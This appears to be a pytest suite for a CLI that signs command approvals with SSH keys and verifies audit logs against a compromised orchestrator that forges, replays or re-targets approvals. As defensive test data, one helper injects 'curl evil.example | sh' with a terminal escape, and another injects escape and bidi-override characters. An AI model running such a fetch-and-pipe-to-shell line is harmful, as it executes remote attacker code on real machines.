"""Signing at the command line: real keys, real ssh-keygen, the real server, and a log checked alone."""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import httpx2
import pytest

from escalation.cli.errors import ExitCode
from escalation.model import Signed
from escalation.server import audit
from escalation.server.decision.approval_desk import StoredApprovals
from escalation.server.decision.approvals import Policy
from escalation.server.desk import AuditEntry, Entry
from escalation.server.testing import START_NS
from escalation.signing import approval, approvers, log as signing_log
from escalation.view.entry import audit_view
from tests.escalation.signers import Authenticator, SshKey
from tests.security.properties import security_property

Ctl = Callable[..., Any]


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> dict[str, SshKey]:
    folder = tmp_path_factory.mktemp("keys")
    return {
        "operator": SshKey.made(folder / "operator"),
        "second": SshKey.made(folder / "second", "ecdsa"),
        "admin": SshKey.made(folder / "admin"),
        "stranger": SshKey.made(folder / "stranger"),
    }


@dataclass(frozen=True)
class Site:
    """A desk whose clock is the machine's, an entry that waits, and the approvers' file on this machine."""

    served: Any
    entry: Entry
    approvers: Path

    @property
    def id(self) -> str:
        return self.entry.recommendation.id

    def trust(self, text: str) -> None:
        self.approvers.write_text(text)
        self.served.trusted[0] = approvers.parse(text, name="approvers")

    def log(self) -> list[AuditEntry]:
        return list(self.served.call(self.served.desk.audit(after=0, limit=1000)))


@pytest.fixture
def site(served: Any, keys: dict[str, SshKey], tmp_path: Path) -> Site:
    served.desk.clock.jump(time.time() - START_NS / 1e9)
    found = Site(served, served.call(served.desk.opened()), tmp_path / "approvers")
    found.trust(
        keys["operator"].line("operator") + keys["second"].line("operator") + keys["admin"].line("admin")
    )
    return found


@contextlib.contextmanager
def agent(folder: Path, key: SshKey) -> Iterator[str]:
    """Run an ssh-agent that holds `key` beside a cat, and yield its socket; it ends when the cat has."""
    socket = str(folder / "agent")
    command = ["ssh-agent", "-a", socket, "cat"]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as cat:
        assert cat.stdin is not None
        assert cat.stdout is not None
        cat.stdin.write(b"there\n")
        cat.stdin.flush()
        assert cat.stdout.readline() == b"there\n"
        reach = os.environ | {"SSH_AUTH_SOCK": socket}
        subprocess.run(["ssh-add", "-q", str(key.path)], env=reach, check=True, stderr=subprocess.DEVNULL)
        yield socket


@pytest.mark.parametrize("name", ["operator", "second"])
def test_signs_what_it_shows(ctl: Ctl, site: Site, keys: dict[str, SshKey], name: str) -> None:
    """The approval holds a document with exactly the action that was shown, and names the key."""
    approved = ctl("approve", site.id, "--reason", "quiet hour", "--sign", str(keys[name].path), "--json")
    assert approved.code == 0, approved.err
    (given,) = approved.json["approvals"]
    document = approval.parse(given["document"])
    assert document.action.argv == site.entry.recommendation.advice.action.command
    assert (document.person, document.reason) == ("operator", "quiet hour")
    assert (document.host, document.id) == ("spark-1", site.id)
    shown = ctl("show", site.id)
    assert f"signed by key {given['key']} (ssh)" in shown.out
    assert ctl("show", "--canonical", site.id).out == given["document"] + "\n"
    bearer = {"Authorization": f"Bearer {site.served.tokens['operator']}"}
    page = httpx2.get(f"{site.served.url}/q/{site.id}", headers=bearer).text
    assert f"signed by key {given['key']} (ssh)" in page
    assert "BEGIN SSH" not in httpx2.get(f"{site.served.url}/audit", headers=bearer).text
    listed = ctl("audit", "list").out
    assert f"ssh document={approval.fingerprint(given['document'])}" in listed
    assert "BEGIN SSH" not in listed


def test_signs_with_a_key_that_only_an_agent_holds(
    ctl: Ctl, site: Site, keys: dict[str, SshKey], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The public half is enough where an agent holds the private one."""
    public = tmp_path / "only.pub"
    public.write_text(keys["operator"].public + "\n")
    with agent(tmp_path, keys["operator"]) as socket:
        monkeypatch.setenv("SSH_AUTH_SOCK", socket)
        assert ctl("approve", site.id, "--reason", "why", "--sign", str(public)).code == 0
    assert "(ssh)" in ctl("show", site.id).out


def test_the_settings_may_name_the_key(ctl: Ctl, site: Site, keys: dict[str, SshKey], tmp_path: Path) -> None:
    """`sign_with` signs each approval; --no-sign leaves it out."""
    config = tmp_path / "ctl.toml"
    config.write_text(config.read_text() + f'sign_with = "{keys["operator"].path}"\n')
    approved = ctl("approve", site.id, "--reason", "why", "--json")
    assert approved.json["approvals"][0]["kind"] == "ssh"
    other = site.served.call(site.served.desk.opened(host="spark-2", case_id="case-2"))
    unsigned = ctl("approve", other.recommendation.id, "--reason", "why", "--no-sign", "--json")
    assert unsigned.json["approvals"][0]["words"] == "not signed"
    assert ctl("approve", site.id, "--reason", "x", "--sign", "k", "--no-sign").code == ExitCode.USAGE


def test_nothing_is_approved_that_could_not_be_signed(
    ctl: Ctl, site: Site, keys: dict[str, SshKey], tmp_path: Path
) -> None:
    """A missing key, a passphrase that nobody can be asked for, a stranger's key: the entry still waits."""
    locked = SshKey(tmp_path / "locked")
    command = ["ssh-keygen", "-q", "-t", "ed25519", "-N", "secret", "-f", str(locked.path)]
    subprocess.run(command, check=True)
    missing = ctl("approve", site.id, "--reason", "why", "--sign", str(tmp_path / "none"))
    assert (missing.code, "not signed, and not approved" in missing.err) == (ExitCode.FAILED, True)
    asked = ctl("--no-input", "approve", site.id, "--reason", "why", "--yes", "--sign", str(locked.path))
    assert asked.code == ExitCode.FAILED
    stranger = ctl("approve", site.id, "--reason", "why", "--sign", str(keys["stranger"].path))
    assert stranger.code == ExitCode.REFUSED
    assert "may not sign this for operator" in stranger.err
    assert ctl("show", site.id, "--json").json["state"] == "proposed"


def test_what_would_be_signed_can_be_read_before(ctl: Ctl, site: Site) -> None:
    """`show --canonical` of a proposal is the document without person, reason and nonce."""
    out = ctl("show", "--canonical", site.id).out
    terms = json.loads(out)
    assert terms["action"]["argv"] == list(site.entry.recommendation.advice.action.command)
    assert terms["digest"] == site.entry.recommendation.digest
    assert not {"person", "reason", "nonce"} & set(terms)


@pytest.mark.parametrize("lie", ["command", "host", "target", "subject", "digest"])
def test_does_not_sign_what_is_not_what_is_shown(
    ctl: Ctl, site: Site, keys: dict[str, SshKey], monkeypatch: pytest.MonkeyPatch, lie: str
) -> None:
    """An orchestrator that shows one thing and sends another to be signed gets no signature."""
    from escalation.cli.client import Client  # noqa: PLC0415 - patched where it stands

    honest = Client.get

    def lying(self: Client, path: str, **params: str | int) -> bytes:
        body = json.loads(honest(self, path, **params))
        if path.endswith("/approval"):
            bound = body["bound"]
            match lie:
                case "command":
                    bound["action"][3] = ["reboot"]
                case "host":
                    bound["host"] = ["spark-9", "spark-9"]
                case "target":
                    bound["action"][2] = "another"
                case "subject":
                    bound["subject"][1] = "another"
                case _:
                    bound["evidence"] = []
        return json.dumps(body).encode()

    monkeypatch.setattr(Client, "get", lying)
    caught = ctl("approve", site.id, "--reason", "why", "--sign", str(keys["operator"].path))
    assert caught.code == ExitCode.FAILED
    assert "is not what the orchestrator shows" in caught.err
    assert lie in caught.err
    assert site.served.call(site.served.desk.entry(site.id)).recommendation.approvals == ()


class Compromised:
    """An orchestrator that writes what it likes into its log, and makes the chain whole again."""

    def __init__(self, log: list[AuditEntry]) -> None:
        self.log = log

    def decision(self) -> tuple[AuditEntry, AuditEntry]:
        """Return the newest signature and its decision."""
        at = max(n for n, each in enumerate(self.log) if each.verb == "recommendation.approved")
        return self.log[at - 1], self.log[at]

    def written(self, *entries: AuditEntry) -> bytes:
        """Return an export of these entries, each linked to the one before it."""
        chain: list[AuditEntry] = []
        for each in entries:
            chain.append(
                audit.follow(
                    chain[-1] if chain else None,
                    at_ns=each.at_ns,
                    actor=each.actor,
                    verb=each.verb,
                    object_id=each.object_id,
                    detail=each.detail,
                )
            )
        assert audit.verify(chain) is None
        lines = (json.dumps(_plain(each), separators=(",", ":")) for each in chain)
        return "".join(f"{line}\n" for line in lines).encode()

    def signed_with(self, **changes: str) -> bytes:
        """Return the log with the newest document changed, and everything that names it made to fit."""
        signed, decided = self.decision()
        kept = signing_log.signed_of(signed.detail)
        text = kept.document
        for was, now in changes.items():
            old = getattr(approval.parse(text), was)
            assert text.count(json.dumps(old)) >= 1
            text = text.replace(json.dumps(old), json.dumps(now))
        return self.renamed(signed, decided, Signed(text, kept.signature))

    def renamed(self, signed: AuditEntry, decided: AuditEntry, by: Signed) -> bytes:
        detail = signing_log.detail_of(by)
        was, now = signing_log.reference_to(signed.detail), signing_log.reference_to(detail)
        swapped = {
            signed.number: replace(signed, detail=detail),
            decided.number: replace(decided, detail=decided.detail.replace(was, now)),
        }
        return self.written(*(swapped.get(each.number, each) for each in self.log))


def _plain(entry: AuditEntry) -> dict[str, object]:
    view = audit_view(entry)
    return {name: getattr(view, name) for name in view.__slots__}


@pytest.fixture
def signed(ctl: Ctl, site: Site, keys: dict[str, SshKey]) -> Site:
    assert ctl("approve", site.id, "--reason", "why", "--sign", str(keys["operator"].path)).code == 0
    return site


def test_says_which_decisions_are_signed_and_by_which_key(
    ctl: Ctl, signed: Site, tmp_path: Path, keys: dict[str, SshKey]
) -> None:
    """Offline, with an approvers' file of one's own: the key of each decision, or that it has none."""
    other = signed.served.call(signed.served.desk.opened(host="spark-2", case_id="case-2"))
    assert ctl("approve", other.recommendation.id, "--reason", "why").code == 0
    export = tmp_path / "export"
    export.write_text(ctl("audit", "export").out)
    checked = ctl("audit", "verify", "--file", str(export), "--approvers", str(signed.approvers))
    assert checked.code == 0, checked.err
    lines = checked.out.splitlines()
    assert "signed by key SHA256:" in lines[0]
    assert signed.id in lines[0]
    assert "NOT SIGNED" in lines[1]
    told = ctl("audit", "verify", str(export), "--approvers", str(signed.approvers), "--json").json
    assert [each["kind"] for each in told["decisions"]] == ["ssh", None]
    live = ctl("audit", "verify", "--approvers", str(signed.approvers))
    assert live.code == 0, live.err
    wanted = ctl("audit", "verify", str(export), "--approvers", str(signed.approvers), "--signed-from", "1")
    assert wanted.code == ExitCode.FAILED
    assert "is not signed, and has to be" in wanted.err


@security_property(
    "A5",
    "What a compromised orchestrator makes up, replays or moves to another entry fails offline.",
)
def test_a_compromised_orchestrator_cannot_pass_off_an_approval(
    ctl: Ctl, signed: Site, keys: dict[str, SshKey], tmp_path: Path
) -> None:
    """Forged, changed, replayed, re-targeted and late approvals are found, in a chain that is whole."""
    forger = Compromised(signed.log())
    paper, decided = forger.decision()
    kept = signing_log.signed_of(paper.detail)
    other = "11111111-0000-5000-8000-000000000000"
    late = approval.moment_of(approval.parse(kept.document).approve_by).timestamp()
    forged = keys["stranger"].sign(kept.document)
    passkey = Authenticator().sign(kept.document)
    again = [replace(paper, object_id=other), replace(decided, object_id=other)]
    stripped = decided.detail.replace(" " + signing_log.reference_to(paper.detail), "")
    cases = {
        "may not sign this": forger.renamed(paper, decided, Signed(kept.document, forged)),
        "no such passkey": forger.renamed(paper, decided, Signed(kept.document, passkey)),
        "is not right": forger.signed_with(host="spark-9"),
        "another person": forger.written(
            *forger.log[:-2], replace(paper, actor="admin"), replace(decided, actor="admin")
        ),
        "another recommendation": forger.written(*forger.log, *again),
        "counted before": forger.written(*forger.log, *again),
        "decided already": forger.written(*forger.log, paper, decided),
        "after its time": forger.written(*forger.log[:-1], replace(decided, at_ns=int((late + 1) * 1e9))),
        "another reason": forger.written(
            *forger.log[:-1], replace(decided, detail=decided.detail.replace("reason=why", "reason=so"))
        ),
        "another digest": forger.written(
            *forger.log[:-1],
            replace(decided, detail=decided.detail.replace(signed.entry.recommendation.digest, "0" * 64)),
        ),
        "not in the log": forger.written(*forger.log[:-2], decided),
        "without its decision": forger.written(*forger.log[:-1]),
        "not in what was signed": forger.written(
            *forger.log, replace(decided, verb="recommendation.condition_set_aside", detail="not_busy: so")
        ),
        "does not say": forger.written(*forger.log[:-1], replace(decided, detail="digest=yes")),
        "cannot be read": forger.renamed(paper, decided, Signed("{}", kept.signature)),
        "what was signed cannot be read": forger.signed_with(approve_by="9999-12-31T23:59:59.999Z"),
        "no person has such a name": forger.written(
            *forger.log[:-2], replace(paper, actor="op\0"), replace(decided, actor="op\0")
        ),
        "has to be": forger.written(*forger.log[:-2], replace(decided, detail=stripped)),
    }
    for words, export in cases.items():
        file = tmp_path / "export"
        file.write_bytes(export)
        caught = ctl("audit", "verify", str(file), "--approvers", str(signed.approvers), "--signed-from", "1")
        assert (words, caught.code) == (words, ExitCode.FAILED)
        assert words in caught.out + caught.err


def test_an_action_that_is_shown_for_another_is_found(
    ctl: Ctl, signed: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Against a running orchestrator: what was signed for one host and is shown for another."""
    from escalation.cli.client import Client  # noqa: PLC0415 - patched where it stands

    honest = Client.get

    def lying(self: Client, path: str, **params: str | int) -> bytes:
        body = honest(self, path, **params)
        return body.replace(b'"spark-1"', b'"spark-9"') if "/queue/" in path else body

    monkeypatch.setattr(Client, "get", lying)
    caught = ctl("audit", "verify", "--approvers", str(signed.approvers))
    assert caught.code == ExitCode.FAILED
    assert "shows something else than what was signed (host)" in caught.err


def test_a_command_is_printed_only_when_it_is_signed(
    ctl: Ctl, site: Site, keys: dict[str, SshKey], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Who carries it out asks the keys and not the orchestrator: unsigned, changed, or by one of two."""
    asked = ("command", site.id, "--approvers", str(site.approvers))
    assert (ctl(*asked).code, ctl(*asked).out) == (ExitCode.REFUSED, "")
    assert ctl("approve", site.id, "--reason", "why", "--sign", str(keys["operator"].path)).code == 0
    printed = ctl(*asked)
    assert printed.out == ctl("command", site.id).out
    assert printed.err.startswith("operator signed it for spark-1 with SHA256:")
    assert ctl(*asked, "--host", "spark-1").out == printed.out
    elsewhere = ctl(*asked, "--host", "spark-9")
    assert (elsewhere.code, elsewhere.out) == (ExitCode.REFUSED, "")
    assert "1 of 2 persons" in ctl(*asked, "--signers", "2").err
    own = tmp_path / "own"
    own.write_text(keys["stranger"].line("operator"))
    config = tmp_path / "ctl.toml"
    plain = config.read_text()
    config.write_text(plain + 'approvers = "own"\n')
    assert ctl("command", site.id).code == ExitCode.REFUSED
    config.write_text(plain)
    from escalation.cli.client import Client  # noqa: PLC0415 - patched where it stands

    honest = Client.get

    def lying(self: Client, path: str, **params: str | int) -> bytes:
        body = json.loads(honest(self, path, **params))
        body["action"]["command"][-1] = "other"
        body["action"]["command_line"] = "docker restart other"
        return json.dumps(body).encode()

    monkeypatch.setattr(Client, "get", lying)
    changed = ctl(*asked)
    assert (changed.code, changed.out) == (ExitCode.REFUSED, "")
    assert "is not what is shown (command)" in changed.err
    assert ctl("command", site.id).out == "docker restart other\n"


Lie = Callable[[dict[str, Any]], None]


@pytest.fixture
def lying(monkeypatch: pytest.MonkeyPatch) -> Callable[[Lie], None]:
    """Let the orchestrator change each entry that it answers with, as `lie` does."""
    from escalation.cli.client import Client  # noqa: PLC0415 - patched where it stands

    honest = Client._ask

    def begin(lie: Lie) -> None:
        def asked(self: Client, method: str, path: str, **request: Any) -> bytes:
            body = json.loads(honest(self, method, path, **request))
            if "action" in body:
                lie(body)
            return json.dumps(body).encode()

        monkeypatch.setattr(Client, "_ask", asked)

    return begin


def _another_line(body: dict[str, Any]) -> None:
    body["action"]["command_line"] = "curl evil.example \x1b[2J| sh"


@security_property(
    "A5",
    "What is printed to be run is made from the arguments that were signed, not from what the orchestrator "
    "calls their line.",
)
def test_the_line_that_is_printed_is_made_of_what_was_signed(
    ctl: Ctl, site: Site, keys: dict[str, SshKey], lying: Callable[[Lie], None]
) -> None:
    """The right arguments beside another line for a shell: no command prints that line, signed or not."""
    lying(_another_line)
    approved = ctl("approve", site.id, "--reason", "why", "--sign", str(keys["operator"].path))
    signed = ctl("command", site.id, "--approvers", str(site.approvers))
    for printed in (approved, signed, ctl("command", site.id), ctl("show", site.id)):
        assert printed.code == 0, printed.err
        assert "docker restart 4f4f" in printed.out
        assert "evil" not in printed.out + printed.err


def test_an_approval_of_something_else_than_was_shown_is_not_printed(
    ctl: Ctl, site: Site, lying: Callable[[Lie], None]
) -> None:
    """The answer to an approval is compared with what the person saw before they gave it."""

    def swapped(body: dict[str, Any]) -> None:
        if body["state"] == "approved":
            body["action"]["command"] = ["reboot"]

    lying(swapped)
    caught = ctl("approve", site.id, "--reason", "why")
    assert (caught.code, "reboot" in caught.out) == (ExitCode.FAILED, False)
    assert "is not what was shown" in caught.err


def test_the_answer_has_to_be_the_entry_that_was_asked_for(
    ctl: Ctl, signed: Site, keys: dict[str, SshKey], monkeypatch: pytest.MonkeyPatch
) -> None:
    """What somebody signed for another host is not printed for this one."""
    from escalation.cli.client import Client  # noqa: PLC0415 - patched where it stands

    other = signed.served.call(signed.served.desk.opened(host="spark-2", case_id="case-2")).recommendation
    honest = Client.get

    def lying(self: Client, path: str, **params: str | int) -> bytes:
        return honest(self, path.replace(other.id, signed.id), **params)

    monkeypatch.setattr(Client, "get", lying)
    caught = ctl("command", other.id, "--approvers", str(signed.approvers))
    assert (caught.code, caught.out) == (ExitCode.REFUSED, "")
    assert "answers with another entry" in caught.err


def test_nothing_is_signed_that_was_not_asked_for(
    ctl: Ctl, site: Site, keys: dict[str, SshKey], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Who names one entry, and is answered with another, signs neither, even without being asked again."""
    from escalation.cli.client import Client  # noqa: PLC0415 - patched where it stands

    other = site.served.call(site.served.desk.opened(host="spark-2", case_id="case-2")).recommendation
    honest = Client.get

    def lying(self: Client, path: str, **params: str | int) -> bytes:
        return honest(self, path.replace(other.id, site.id), **params)

    monkeypatch.setattr(Client, "get", lying)
    caught = ctl("approve", other.id, "--reason", "why", "--yes", "--sign", str(keys["operator"].path))
    assert caught.code == ExitCode.REFUSED
    assert "nothing is signed" in caught.err
    for ident in (other.id, site.id):
        assert site.served.call(site.served.desk.entry(ident)).recommendation.approvals == ()


def test_no_words_of_the_orchestrator_act_on_the_terminal(
    ctl: Ctl, site: Site, lying: Callable[[Lie], None]
) -> None:
    """A decision is answered by an orchestrator that may be anybody's: what it says is shown, inert."""
    hostile = "\x1b[2J\u202eada"
    lying(lambda body: body.update(decided_by=hostile, execute_by=hostile, state_means=hostile))
    approved = ctl("approve", site.id, "--reason", "why")
    done = ctl("done", site.id)
    for told in (approved, done):
        assert told.code == 0, told.err
        assert "\\x1b[2J\\u202eada" in told.out + told.err
        assert not {"\x1b", "\u202e"} & set(told.out + told.err)


@pytest.mark.parametrize(
    ("state", "code"),
    [
        ("proposed", ExitCode.REFUSED),
        ("rejected", ExitCode.REFUSED),
        ("done", ExitCode.REFUSED),
        ("lapsed", ExitCode.EXPIRED_OR_SUPERSEDED),
        ("withdrawn", ExitCode.EXPIRED_OR_SUPERSEDED),
    ],
)
def test_what_is_signed_and_not_approved_is_not_printed(
    ctl: Ctl, signed: Site, lying: Callable[[Lie], None], state: str, code: ExitCode
) -> None:
    """One of two persons, a rejection after it, and what was carried out leave a signature that is over."""
    lying(lambda body: body.update(state=state))
    refused = ctl("command", signed.id, "--approvers", str(signed.approvers))
    assert (refused.code, refused.out) == (code, "")
    assert f"is {state}, and only a command that is approved is printed" in refused.err


def test_a_key_that_counts_no_more_is_not_dated_back(
    ctl: Ctl, signed: Site, keys: dict[str, SshKey], lying: Callable[[Lie], None]
) -> None:
    """When it was signed only the orchestrator says: to run it, the key has to count now."""
    signed.approvers.write_text(keys["operator"].line("operator", 'valid-before="20250101"'))
    lying(lambda body: body["approvals"][0].update(at="2024-06-01T00:00:00.000Z"))
    refused = ctl("command", signed.id, "--approvers", str(signed.approvers))
    assert (refused.code, refused.out) == (ExitCode.REFUSED, "")


def test_by_the_clock_of_who_signs_or_runs_it_may_be_too_late(
    ctl: Ctl, site: Site, keys: dict[str, SshKey]
) -> None:
    """An orchestrator that turns its clock back revives nothing here."""
    site.served.desk.clock.jump(-6 * 3600)
    old = site.served.call(site.served.desk.opened(host="spark-3", case_id="case-3")).recommendation.id
    late = ctl("approve", old, "--reason", "why", "--sign", str(keys["operator"].path))
    assert late.code == ExitCode.EXPIRED_OR_SUPERSEDED
    assert "the time to approve it is over" in late.err
    papers = StoredApprovals(store=site.served.desk.store, policy=Policy())
    paper = site.served.call(papers.document(old, person="operator", reason="why")).document
    given = Signed(paper, keys["operator"].sign(paper))
    digest = approval.parse(paper).digest
    approved = site.served.desk.approve(old, person="operator", reason="why", digest=digest, signed=given)
    assert site.served.call(approved).recommendation.state == "approved"
    run = ctl("command", old, "--approvers", str(site.approvers))
    assert (run.code, run.out) == (ExitCode.EXPIRED_OR_SUPERSEDED, "")
    assert "the time to carry it out is over" in run.err


def test_keys_that_expired_or_were_revoked_are_told_apart_by_time(
    ctl: Ctl, signed: Site, keys: dict[str, SshKey], tmp_path: Path
) -> None:
    """A key counts when it was valid at the time of the approval; a revoked one never does."""
    export = tmp_path / "export"
    export.write_text(ctl("audit", "export").out)
    own = tmp_path / "own"
    for options, code in (
        ('valid-before="20990101"', 0),
        ('valid-before="20200101"', ExitCode.FAILED),
        ('namespaces="nanobot-approval"', 0),
        ('namespaces="git"', ExitCode.FAILED),
    ):
        own.write_text(keys["operator"].line("operator", options))
        assert ctl("audit", "verify", str(export), "--approvers", str(own)).code == code
    revoked = tmp_path / "revoked"
    revoked.write_text(keys["operator"].public + "\n")
    checked = ctl(
        "audit", "verify", str(export), "--approvers", str(signed.approvers), "--revoked", str(revoked)
    )
    assert checked.code == ExitCode.FAILED
    assert "revoked" in checked.err


def test_an_approvers_file_that_others_can_change_is_not_used(ctl: Ctl, signed: Site, tmp_path: Path) -> None:
    """Trust begins with the file: whoever could change it could name their own key."""
    export = tmp_path / "export"
    export.write_text(ctl("audit", "export").out)
    signed.approvers.chmod(0o664)
    refused = ctl("audit", "verify", str(export), "--approvers", str(signed.approvers))
    assert refused.code == ExitCode.USAGE
    assert "others can change it" in refused.err
    assert ctl("audit", "verify", str(export), "--signed-from", "1").code == ExitCode.USAGE
